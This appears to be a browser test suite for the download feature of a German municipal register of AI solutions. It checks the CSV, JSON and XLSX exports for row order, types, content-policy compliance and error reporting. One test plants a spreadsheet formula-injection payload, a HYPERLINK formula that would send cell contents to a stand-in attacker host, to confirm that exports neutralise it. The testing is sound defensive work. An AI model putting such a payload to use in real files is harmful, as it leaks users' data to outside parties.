/** The list as a file: what a visitor downloads in each format is what the register says, under the strict policy. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import { strFromU8, unzipSync } from 'fflate';
import { build, type Rolldown } from 'vite';
import { beforeAll, describe, expect, it } from 'vitest';

import { readCsv } from '#exports/csv.ts';
import type { ListCell, SolutionList } from '#exports/solution-list.ts';
import { urls } from '#site/urls.ts';
import astroConfig from '../../astro.config.mjs';
import { ROOT } from '../../scripts/lib/step.ts';
import { siteFolder } from '../build/sites.ts';
import { newPage, type WatchedPage } from './page.ts';

const FOLDER = '/assets/export-test/';
const ABOUT = { title: 'Suche: Wohngeld', address: 'https://ki.musterstadt.de/loesungen/#q=Wohngeld' };
const sample = JSON.parse(
  readFileSync(path.join(siteFolder('sample'), urls.solutionList), 'utf8'),
) as SolutionList;

/** The export module as the build bundles it, by file name. */
let scripts: Map<string, string>;

beforeAll(async () => {
  const bundle = (await build({
    configFile: false,
    root: ROOT,
    logLevel: 'error',
    resolve: astroConfig.vite?.resolve ?? {},
    build: {
      write: false,
      rolldownOptions: {
        input: path.join(ROOT, 'src/search/export-list.ts'),
        preserveEntrySignatures: 'strict',
        output: { entryFileNames: 'main.js', chunkFileNames: '[name].js' },
      },
    },
  })) as Rolldown.RolldownOutput;
  scripts = new Map(
    bundle.output.flatMap((file) => (file.type === 'chunk' ? [[file.fileName, file.code] as const] : [])),
  );
});

interface Downloaded {
  name: string;
  bytes: Buffer;
  /** Scripts that were loaded for it. */
  loaded: string[];
}

async function openSite(list: SolutionList = sample): Promise<WatchedPage> {
  const watched = await newPage({ site: 'sample' });
  await watched.page.route(`**${FOLDER}*`, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: scripts.get(path.basename(new URL(route.request().url()).pathname))!,
    }),
  );
  if (list !== sample)
    await watched.page.route(`**${urls.solutionList}`, (route) => route.fulfill({ json: list }));
  await watched.open('/ueber/');
  return watched;
}

async function download(
  { page }: WatchedPage,
  format: string,
  positions: readonly number[],
): Promise<Downloaded> {
  const loaded: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes(FOLDER)) loaded.push(path.basename(request.url()));
  });
  const [file] = await Promise.all([
    page.waitForEvent('download', { timeout: 20_000 }),
    page.evaluate(
      async ([script, wanted, part]) => {
        const { exportList } = (await import(script)) as {
          exportList: (format: string, part: unknown) => Promise<void>;
        };
        await exportList(wanted, part);
      },
      [`${FOLDER}main.js`, format, { ...ABOUT, positions, source: urls.solutionList }] as const,
    ),
  ]);
  return { name: file.suggestedFilename(), bytes: await buffer(await file.createReadStream()), loaded };
}

const POSITIONS = [4, 0, 2];
const column = (id: string): number => sample.columns.findIndex((one) => one.id === id);
const cellsOf = (id: string, list = sample): ListCell[] =>
  POSITIONS.map((position) => list.rows[position]![column(id)]!);

describe('Liste als Datei', () => {
  it('als CSV: gewählte Zeilen in ihrer Reihenfolge, mit Umlauten und „keine Angabe“', async () => {
    const watched = await openSite();
    const { name, bytes, loaded } = await download(watched, 'csv', POSITIONS);
    expect(name).toBe('maki-loesungen-2026-11-23.csv');
    const [header, ...rows] = readCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
    expect(header).toEqual(sample.columns.map(({ label }) => label));
    expect(rows.map((row) => row[column('id')])).toEqual(cellsOf('id'));
    expect(rows.map((row) => row[column('address')])).toEqual(
      cellsOf('id').map((id) => `https://ki.musterstadt.de/loesungen/${id}/`),
    );
    expect(header).toContain('Zuletzt geprüft');
    expect(rows[0]).toContain('keine Angabe');
    expect(rows.every((row) => row.length === header!.length && !row.includes(''))).toBe(true);
    expect(loaded).toEqual(['main.js']);
    await nothingForbidden(watched);
  });

  it('als JSON: ein Objekt je Zeile, sortierte Schlüssel, null ohne Angabe, mit Quelle und Lizenz', async () => {
    const watched = await openSite();
    const { name, bytes } = await download(watched, 'json', POSITIONS);
    expect(name).toBe('maki-loesungen-2026-11-23.json');
    const text = bytes.toString('utf8');
    expect(text.endsWith('}\n')).toBe(true);
    const { about, solutions } = JSON.parse(text) as {
      about: object;
      solutions: Record<string, ListCell>[];
    };
    expect(about).toEqual({
      ...ABOUT,
      count: 3,
      date: '2026-11-23',
      licence: expect.stringContaining('https://www.govdata.de/dl-de/zero-2-0'),
      source: 'MaKI: Probe der Möglichkeiten, https://ki.musterstadt.de/',
    });
    expect(solutions.map(({ id }) => id)).toEqual(cellsOf('id'));
    for (const solution of solutions) {
      expect(Object.keys(solution)).toEqual(sample.columns.map(({ id }) => id).sort());
      expect(solution['address']).toBe(`https://ki.musterstadt.de/loesungen/${String(solution['id'])}/`);
    }
    expect(solutions[0]!['licence']).toBeNull();
    await nothingForbidden(watched);
  });

  it('als XLSX: Kopf fett und fest, Tage als Tage, Zahlen als Zahlen, Texte als Texte', async () => {
    const watched = await openSite();
    const { name, bytes, loaded } = await download(watched, 'xlsx', POSITIONS);
    expect(name).toBe('maki-loesungen-2026-11-23.xlsx');
    const { rows, sheet, styles } = workbook(bytes);
    expect(rows[0]!.map(({ value }) => value)).toEqual(sample.columns.map(({ label }) => label));
    expect(rows.slice(1).map((row) => row[column('id')]!.value)).toEqual(cellsOf('id'));
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(styles).toContain('dd.mm.yyyy');
    expect(styles).toContain('<b/>');
    for (const row of rows.slice(1)) {
      // Days of a spreadsheet count from 30 December 1899.
      expect(row[column('reviewed')]).toEqual({ type: 'number', value: 46327 });
      expect(row[column('deployments')]!.type).toBe('number');
      expect(row[column('title')]!.type).toBe('text');
    }
    expect(rows.flat().some(({ value }) => value === 'keine Angabe')).toBe(true);
    expect(loaded.length).toBeGreaterThan(1);
    await nothingForbidden(watched);
  });

  it('macht aus keinem Text eine Formel', async () => {
    const formula = '=HYPERLINK("https://boese.example/?x="&A1,"<b>ja</b>") Ü';
    const rows = sample.rows.map((row) => row.with(column('title'), formula));
    const watched = await openSite({ ...sample, rows });
    const { bytes: csv } = await download(watched, 'csv', [1]);
    expect(csv.toString('utf8')).toContain(`"'${formula.replaceAll('"', '""')}"`);
    const { bytes: json } = await download(watched, 'json', [1]);
    expect((JSON.parse(json.toString('utf8')) as { solutions: object[] }).solutions[0]).toMatchObject({
      title: formula,
    });
    const { bytes: xlsx } = await download(watched, 'xlsx', [1]);
    const { rows: cells, sheet } = workbook(xlsx);
    expect(cells[1]![column('title')]).toEqual({ type: 'text', value: formula });
    expect(sheet).not.toContain('<f>');
  });

  it('packt auch große Listen, ohne dass die Richtlinie etwas aufhält', async () => {
    const rows = Array.from({ length: 3000 }, (_, index) => sample.rows[index % sample.rows.length]!);
    const watched = await openSite({ ...sample, rows });
    const { bytes } = await download(
      watched,
      'xlsx',
      rows.map((_, index) => index),
    );
    expect(workbook(bytes).rows).toHaveLength(3001);
    await nothingForbidden(watched);
  });

  it('meldet dem Aufrufer, wenn die Liste nicht zu laden ist', async () => {
    const watched = await openSite();
    await watched.page.route(`**${urls.solutionList}`, (route) => route.abort());
    await expect(download(watched, 'csv', [0])).rejects.toThrow(/Failed to fetch/);
  });
});

async function nothingForbidden(watched: WatchedPage): Promise<void> {
  expect(watched).toMatchObject({ policyViolations: [], foreignRequests: [], consoleErrors: [] });
  await watched.close();
}

interface Cell {
  type: 'text' | 'number';
  value: string | number;
}

/** The first sheet of an XLSX file. */
function workbook(bytes: Buffer): { rows: Cell[][]; sheet: string; styles: string } {
  const files = unzipSync(bytes);
  const read = (name: string): string => strFromU8(files[name]!);
  const shared = [...read('xl/sharedStrings.xml').matchAll(/<si><t[^>]*>([^]*?)<\/t><\/si>/g)].map(
    ([, text]) => unescaped(text!),
  );
  const sheet = read('xl/worksheets/sheet1.xml');
  const rows = [...sheet.matchAll(/<row [^>]*>([^]*?)<\/row>/g)].map(([, row]) =>
    [...row!.matchAll(/<c ([^>]*)>(?:<v>([^<]*)<\/v>)?[^]*?<\/c>/g)].map(([, attributes, value]): Cell =>
      attributes!.includes('t="s"')
        ? { type: 'text', value: shared[Number(value)]! }
        : { type: 'number', value: Number(value) },
    ),
  );
  return { rows, sheet, styles: read('xl/styles.xml') };
}

function unescaped(text: string): string {
  return text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
}
